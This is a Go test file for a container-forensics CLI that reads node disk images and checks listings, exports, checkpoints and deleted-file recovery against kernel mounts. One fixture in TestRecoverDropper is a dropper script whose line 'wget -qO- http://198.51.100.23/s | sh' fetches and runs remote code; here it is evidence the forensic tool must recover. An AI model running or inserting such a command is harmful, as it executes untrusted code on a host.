package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/deadnode/deadnode/internal/testfix"
)

// TestMain lets the test binary act as the CLI (DEADNODE_AS_CLI=1), so
// that a test can run it as another user.

const ckptK8sDigest = "sha256:59633960fda9a188befcefff9d80fd7afe76cbe3540012e71f55835d04873a96"

// diskCommands are the commands compared between a disk image and the
// kernel's mount of the same filesystems.
func diskCommands(root string) [][]string {
	return [][]string{
		{"--root", root, "ls", "containers", "-o", "json"},
		{"--root", root, "ls", "pods", "-o", "json"},
		{"--root", root, "ls", "images", "-o", "json"},
		{"--root", root, "ls", "snapshots", "-o", "json"},
		{"--root", root, "ls", "content", "-o", "json"},
		{"--root", root, "fs", "ls", ctrApp, "/", "-R", "--hash", "-o", "json"},
		{"--root", root, "drift", "--all", "-o", "json"},
		{"--root", root, "image", "verify", "--all", "-o", "json"},
		{"--root", root, "checkpoint", "ls", "-o", "json"},
		{"--root", root, "checkpoint", "inspect", ckptK8sDigest, "--all", "-o", "json"},
		{"--root", root, "timeline", "--hash"},
		{"--root", root, "timeline", "--format", "bodyfile"},
		{"--root", root, "logs", "-o", "json"},
		{"--root", root, "fs", "ls", ctrApp, "/etc", "--volumes", "-o", "json"},
		{"--root", root, "host", "persistence", "-o", "json"},
	}
}

// kernelMount is one filesystem the test mounts as the node did: a byte
// range of a raw disk at a mount point below the root.
type kernelMount struct {
	off, size int64
	fstype    string
	point     string // "" for the root
}

// partRange returns a partition's byte range as partx reads the table.
func partRange(t *testing.T, img string, n int) (int64, int64) {
	t.Helper()
	out, err := exec.Command("partx", "-g", "-o", "START,SECTORS", "-n", strconv.Itoa(n), img).Output()
	if err != nil {
		t.Fatalf("partx %s: %v", img, err)
	}
	f := strings.Fields(string(out))
	if len(f) != 2 {
		t.Fatalf("partx %s: %q", img, out)
	}
	s, _ := strconv.ParseInt(f[0], 10, 64)
	c, _ := strconv.ParseInt(f[1], 10, 64)
	return s * 512, c * 512
}

// lvRange returns an LV's byte range from forge-disk.sh's facts (written
// from lvs's own segment report).
func lvRange(t *testing.T, dir, image, lv string) (int64, int64) {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, "facts", image+".lv-offsets"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var name string
		var off, size int64
		if _, err := fmt.Sscan(sc.Text(), &name, &off, &size); err == nil && name == lv {
			return off, size
		}
	}
	t.Fatalf("no %s in the facts of %s", lv, image)
	return 0, 0
}

// mountKernel mounts ms of raw read-only (loop devices over the byte
// ranges) and returns the root's mount point; everything is undone at
// cleanup.
func mountKernel(t *testing.T, raw string, ms []kernelMount) string {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("the kernel's mounts need root (CI runs as root)")
	}
	mnt := t.TempDir()
	var points, loops []string
	t.Cleanup(func() {
		for i := len(points) - 1; i >= 0; i-- {
			syscall.Unmount(points[i], syscall.MNT_DETACH)
		}
		for _, l := range loops {
			exec.Command("losetup", "-d", l).Run()
		}
	})
	for _, m := range ms {
		out, err := exec.Command("losetup", "--show", "-f", "-r", "-o", fmt.Sprint(m.off), "--sizelimit", fmt.Sprint(m.size), raw).CombinedOutput()
		if err != nil {
			t.Fatalf("losetup: %v: %s", err, out)
		}
		l := strings.TrimSpace(string(out))
		loops = append(loops, l)
		p := filepath.Join(mnt, m.point)
		opts := "ro"
		if m.fstype == "xfs" {
			opts += ",nouuid" // the same filesystem may be mounted elsewhere already
		}
		if out, err := exec.Command("mount", "-o", opts, "-t", m.fstype, l, p).CombinedOutput(); err != nil {
			t.Fatalf("mount %s on %s: %v: %s", l, p, err, out)
		}
		points = append(points, p)
	}
	return mnt
}

// sameDisk checks with forge-disk.sh's SHA256SUMS (qemu-img's reading of
// each image) that a VM image holds the raw disk's bytes.
func sameDisk(t *testing.T, dir, image, raw string) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "SHA256SUMS"))
	if err != nil {
		t.Fatal(err)
	}
	sums := map[string]string{}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) == 2 {
			sums[f[1]] = f[0]
		}
	}
	if sums[image] == "" || sums[image] != sums[raw] {
		t.Fatalf("%s and %s do not hold the same disk (%q, %q)", image, raw, sums[image], sums[raw])
	}
}

// diskForm is one of the five forms of the node's disk and the kernel's
// mounts of the same filesystems.
type diskForm struct {
	image, raw string
	mounts     func(t *testing.T, dir string) []kernelMount
}

func diskForms() []diskForm {
	gptExt4 := func(t *testing.T, dir string) []kernelMount {
		o, s := partRange(t, filepath.Join(dir, "gpt-ext4.raw"), 2)
		return []kernelMount{{o, s, "ext4", ""}}
	}
	gptXFS := func(t *testing.T, dir string) []kernelMount {
		o, s := partRange(t, filepath.Join(dir, "gpt-xfs.raw"), 1)
		return []kernelMount{{o, s, "xfs", ""}}
	}
	return []diskForm{
		{"gpt-ext4.raw", "gpt-ext4.raw", gptExt4},
		{"gpt-xfs.raw", "gpt-xfs.raw", gptXFS},
		{"mbr-lvm-xfs.raw", "mbr-lvm-xfs.raw", func(t *testing.T, dir string) []kernelMount {
			ro, rs := lvRange(t, dir, "mbr-lvm-xfs", "vg0/root")
			bo, bs := partRange(t, filepath.Join(dir, "mbr-lvm-xfs.raw"), 1)
			return []kernelMount{{ro, rs, "xfs", ""}, {bo, bs, "ext4", "boot"}} // its fstab mounts /boot
		}},
		{"gpt-ext4.qcow2", "gpt-ext4.raw", gptExt4},
		{"gpt-xfs.vmdk", "gpt-xfs.raw", gptXFS},
		{"gpt-var.raw", "gpt-var.raw", func(t *testing.T, dir string) []kernelMount {
			ro, rs := partRange(t, filepath.Join(dir, "gpt-var.raw"), 1)
			vo, vs := partRange(t, filepath.Join(dir, "gpt-var.raw"), 2)
			return []kernelMount{{ro, rs, "ext4", ""}, {vo, vs, "xfs", "var"}}
		}},
	}
}

// TestDiskFormsLikeKernelMount: on each form of the node's disk, every
// reading command prints exactly what it prints on the kernel's read-only
// mount of the same filesystems; only the evidence path differs.
func TestDiskFormsLikeKernelMount(t *testing.T) {
	dir := testfix.DiskImages(t)
	for _, f := range diskForms() {
		t.Run(f.image, func(t *testing.T) {
			if f.image != f.raw {
				sameDisk(t, dir, f.image, f.raw)
			}
			img := filepath.Join(dir, f.image)
			before := statLine(t, img)
			defer func() {
				if after := statLine(t, img); after != before {
					t.Errorf("the image changed: %s -> %s", before, after)
				}
			}()
			mnt := mountKernel(t, filepath.Join(dir, f.raw), f.mounts(t, dir))
			for i, args := range diskCommands(img) {
				kargs := diskCommands(mnt)[i]
				want, kerr, kcode := runCLI(t, kargs...)
				got, gerr, gcode := runCLI(t, args...)
				want = strings.ReplaceAll(want, mnt, "$EVIDENCE")
				got = strings.ReplaceAll(got, img, "$EVIDENCE")
				if kcode != 0 || gcode != 0 {
					t.Errorf("%v: exit %d (kernel mount: %d): %s %s", args[2:], gcode, kcode, gerr, kerr)
				}
				if len(want) < 100 {
					t.Errorf("%v: %d bytes on the kernel mount: %s", args[2:], len(want), kerr)
				}
				if got != want {
					t.Errorf("%v differs from the kernel mount's: %s", args[2:], firstDiff(want, got))
				}
			}
			// export writes the same tar and manifest
			for _, mode := range []string{"--upper", "--merged"} {
				var tars, mans []string
				for _, root := range []string{mnt, img} {
					out := t.TempDir()
					if _, stderr, code := runCLI(t, "--root", root, "export", ctrApp, mode, "-f", filepath.Join(out, "x.tar"), "--manifest", filepath.Join(out, "m.json")); code != 0 {
						t.Fatalf("export %s: exit %d: %s", mode, code, stderr)
					}
					tb, _ := os.ReadFile(filepath.Join(out, "x.tar"))
					mb, _ := os.ReadFile(filepath.Join(out, "m.json"))
					tars, mans = append(tars, string(tb)), append(mans, string(mb))
				}
				if len(tars[0]) < 10000 || tars[0] != tars[1] || mans[0] != mans[1] {
					t.Errorf("export %s differs from the kernel mount's (%d and %d bytes): %s", mode, len(tars[0]), len(tars[1]), firstDiff(mans[0], mans[1]))
				}
			}
		})
	}
}

// TestDiskFormsUnprivileged: the same commands run by nobody on a copy of
// each image it may read give what root gets: no mount, no privilege.
func TestDiskFormsUnprivileged(t *testing.T) {
	dir := testfix.DiskImages(t)
	if os.Geteuid() != 0 {
		t.Fatal("switching to nobody needs root (CI runs as root)")
	}
	work, err := os.MkdirTemp("", "deadnode-nobody-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(work) })
	if err := os.Chmod(work, 0o755); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(work, "deadnode")
	copyFile(t, self, bin, 0o755)
	home := filepath.Join(work, "home")
	if err := os.Mkdir(home, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(home, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	for _, f := range diskForms() {
		t.Run(f.image, func(t *testing.T) {
			img := filepath.Join(work, filepath.Base(f.image))
			if out, err := exec.Command("cp", "--sparse=always", filepath.Join(dir, f.image), img).CombinedOutput(); err != nil {
				t.Fatalf("cp: %v %s", err, out)
			}
			os.Chmod(img, 0o644)
			defer os.Remove(img)
			cmds := append(diskCommands(img), []string{"--root", img, "recover", "--all", "-o", "json"}, []string{"disk", "ls", img, "-o", "json"})
			for _, args := range cmds {
				want, _, code := runCLI(t, args...)
				if code != 0 {
					t.Fatalf("%v: root: exit %d", args, code)
				}
				cmd := exec.Command("setpriv", append([]string{"--reuid=65534", "--regid=65534", "--clear-groups", "--", bin}, args...)...)
				cmd.Env = []string{"DEADNODE_AS_CLI=1", "HOME=" + home, "PATH=/usr/bin:/bin"}
				var stderr strings.Builder
				cmd.Stderr = &stderr
				got, err := cmd.Output()
				if err != nil {
					t.Fatalf("%v as nobody: %v: %s", args, err, stderr.String())
				}
				if string(got) != want {
					t.Errorf("%v as nobody differs: %s", args, firstDiff(want, string(got)))
				}
			}
			// and nobody may not read what it may not read
			os.Chmod(img, 0o600)
			cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", bin, "--root", img, "ls", "containers")
			cmd.Env = []string{"DEADNODE_AS_CLI=1", "HOME=" + home}
			out, err := cmd.CombinedOutput()
			if err == nil || !strings.Contains(string(out), "permission denied") {
				t.Errorf("an unreadable image: %v %s", err, out)
			}
		})
	}
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	in, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY|os.O_EXCL, mode)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, in); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestRecoverDropper: recover names and restores the dropper deleted from
// the attacked container on every form; -d writes it and a manifest,
// refuses to write over a file, and never writes into the evidence.
func TestRecoverDropper(t *testing.T) {
	dir := testfix.DiskImages(t)
	const dropper = "#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n"
	for _, f := range diskForms() {
		t.Run(f.image, func(t *testing.T) {
			img := filepath.Join(dir, f.image)
			for _, args := range [][]string{{"recover", ctrApp}, {"recover", "--all"}, {"recover", "shop/shop-frontend-7d9c8b6f5-x2k4q/app"}} {
				out, stderr, code := runCLI(t, append([]string{"--root", img, "-o", "json"}, args...)...)
				if code != 0 {
					t.Fatalf("%v: exit %d: %s", args, code, stderr)
				}
				var recs []map[string]any
				if err := json.Unmarshal([]byte(out), &recs); err != nil {
					t.Fatal(err)
				}
				var drop []map[string]any
				for _, r := range recs {
					if r["path"] == "/tmp/.dropper.sh" {
						drop = append(drop, r)
					}
				}
				if len(drop) != 1 {
					t.Fatalf("%v: %d dropper records in %s", args, len(drop), out)
				}
				r := drop[0]
				if r["container_id"] != ctrApp || r["evidence_path"] != "/"+testfix.NodeUpperDir+"/tmp/.dropper.sh" || r["size"] != float64(len(dropper)) ||
					r["recovered_bytes"] != float64(len(dropper)) || r["complete"] != true || r["mode"] != "0644" || r["type"] != "file" ||
					r["sha256"] != "31a71d1b0f5563a15844b3014592d3202c5f271590d1d7b45be3c6db58cfefb7" || r["deleted_at"] == nil ||
					(r["method"] != "journal" && r["method"] != "dirent" && r["method"] != "inode") {
					t.Errorf("%v: %v", args, r)
				}
			}
			out := filepath.Join(t.TempDir(), "out")
			stdout, stderr, code := runCLI(t, "--root", img, "recover", ctrApp, "-d", out)
			if code != 0 {
				t.Fatalf("-d: exit %d: %s", code, stderr)
			}
			b, err := os.ReadFile(filepath.Join(out, "0001-ino"+inodeOf(t, stdout)+"-.dropper.sh"))
			if err != nil || string(b) != dropper {
				t.Fatalf("written: %q %v\n%s", b, err, stdout)
			}
			var man recoverManifest
			mb, err := os.ReadFile(filepath.Join(out, "manifest.json"))
			if err != nil {
				t.Fatal(err)
			}
			if err := json.Unmarshal(mb, &man); err != nil || man.Evidence != img || len(man.Recovered) != 1 || man.Recovered[0].File == nil {
				t.Errorf("manifest %s: %v", mb, err)
			}
			if _, stderr, code := runCLI(t, "--root", img, "recover", ctrApp, "-d", out); code != 1 || !strings.Contains(stderr, "exists") {
				t.Errorf("over an existing file: exit %d: %s", code, stderr)
			}
		})
	}
	if _, stderr, code := runCLI(t, "--root", filepath.Join(dir, "gpt-ext4.raw"), "recover", ctrApp, "-d", filepath.Join(dir, "gpt-ext4.raw")); code != 1 || !strings.Contains(stderr, "refusing to write") {
		t.Errorf("inside the evidence: exit %d: %s", code, stderr)
	}
	if _, stderr, code := runCLI(t, "--root", testfix.NodeArchive(t), "recover", "--all"); code != 1 || !strings.Contains(stderr, "deleted files can only be recovered from the disk image itself") {
		t.Errorf("on an archive: exit %d: %s", code, stderr)
	}
	if _, stderr, code := runCLI(t, "--root", filepath.Join(dir, "gpt-ext4.raw"), "recover"); code != 2 || !strings.Contains(stderr, "name containers, or --all") {
		t.Errorf("no containers: exit %d: %s", code, stderr)
	}
}

// inodeOf reads the INODE column of recover's table (one row).
func inodeOf(t *testing.T, table string) string {
	t.Helper()
	lines := strings.Split(strings.TrimSpace(table), "\n")
	if len(lines) != 2 {
		t.Fatalf("table:\n%s", table)
	}
	return strings.Fields(lines[1])[2]
}

// TestKubeletCheckpointInDisk: a kubelet checkpoint archive stored on a
// disk image's ext4 root is listed and opened as on the kernel's mount.
func TestKubeletCheckpointInDisk(t *testing.T) {
	work := t.TempDir()
	tree := filepath.Join(work, "tree")
	ck := filepath.Join(tree, "var", "lib", "kubelet", "checkpoints")
	for _, d := range []string{ck, filepath.Join(tree, "etc")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	name := "checkpoint-shop-backend-5f6d7c8b9-abcde_shop-app-2026-11-27T02:35:10Z.tar"
	copyFile(t, testfix.Fixture(t, "podman-checkpoint", "ckpt-default-zstd.tar.zst"), filepath.Join(ck, name), 0o600)
	img := testfix.MakeDisk(t, work, "kubelet.raw", "", []testfix.Part{{Name: "root", MiB: 32, FS: "ext4", Label: "root", Tree: tree}})
	o, s := partRange(t, img, 1)
	mnt := mountKernel(t, img, []kernelMount{{o, s, "ext4", ""}})
	for _, args := range [][]string{{"checkpoint", "ls", "-o", "json"}, {"checkpoint", "inspect", name, "--all", "-o", "json"}, {"mem", "maps", name, "-o", "json"}} {
		want, kerr, kcode := runCLI(t, append([]string{"--root", mnt}, args...)...)
		got, gerr, gcode := runCLI(t, append([]string{"--root", img}, args...)...)
		if kcode != 0 || gcode != 0 || len(want) < 100 {
			t.Fatalf("%v: exit %d (kernel %d): %s %s", args, gcode, kcode, gerr, kerr)
		}
		want = strings.ReplaceAll(want, mnt, "$EVIDENCE")
		got = strings.ReplaceAll(got, img, "$EVIDENCE")
		if got != want {
			t.Errorf("%v differs from the kernel mount's: %s", args, firstDiff(want, got))
		}
	}
	// The disk image given where a checkpoint goes: said to be a disk
	// image, with the way to its checkpoints (it holds a node's /etc).
	_, stderr, code := runCLI(t, "checkpoint", "inspect", img)
	want := "deadnode checkpoint inspect: " + img + ": not a checkpoint: a disk image (a checkpoint is a directory of CRIU images, or a .tar, .tar.gz or .tar.zst archive of one); " +
		img + " looks like a node's evidence, not a checkpoint: give it as --root and name one of its checkpoints (deadnode --root " + img + " checkpoint ls)\n"
	if code != 1 || !strings.HasSuffix(stderr, want) {
		t.Errorf("checkpoint inspect DISK: exit %d\n%s\nwant the line %q", code, stderr, want)
	}
}

// statLine is what a write, a chmod or a truncation of a file would
// change: size, mode, owner, mtime and ctime.
func statLine(t *testing.T, p string) string {
	t.Helper()
	var st syscall.Stat_t
	if err := syscall.Stat(p, &st); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("size %d mode %o uid %d mtime %d.%09d ctime %d.%09d", st.Size, st.Mode, st.Uid, st.Mtim.Sec, st.Mtim.Nsec, st.Ctim.Sec, st.Ctim.Nsec)
}

// An overlay or child image opens with its backing image found beside it,
// as QEMU finds it: the qcow2 overlay lists the containers its base does,
// and the VMDK child names its parent.
func TestDiskBackingBeside(t *testing.T) {
	dir := testfix.DiskImages(t)
	base := runOK(t, "--root", filepath.Join(dir, "gpt-ext4.qcow2"), "ls", "containers", "-o", "json")
	over := runOK(t, "--root", filepath.Join(dir, "gpt-ext4.overlay.qcow2"), "ls", "containers", "-o", "json")
	if over != base || !strings.Contains(over, `"id": "`+gApp) {
		t.Errorf("the overlay lists other containers than its base:\n%s", firstDiff(base, over))
	}
	var ls struct {
		Image struct {
			Format      string `json:"format"`
			BackingFile string `json:"backing_file"`
			Backing     *struct {
				Format string   `json:"format"`
				Files  []string `json:"files"`
			} `json:"backing"`
		} `json:"image"`
	}
	if err := json.Unmarshal([]byte(runOK(t, "--root", filepath.Join(dir, "gpt-ext4.child.vmdk"), "disk", "ls", "-o", "json")), &ls); err != nil {
		t.Fatal(err)
	}
	if b := ls.Image.Backing; ls.Image.Format != "vmdk-sparse" || ls.Image.BackingFile != "gpt-ext4.sparse.vmdk" || b == nil || b.Format != "vmdk-sparse" ||
		len(b.Files) != 1 || b.Files[0] != filepath.Join(dir, "gpt-ext4.sparse.vmdk") {
		t.Errorf("child: %+v", ls.Image)
	}
}
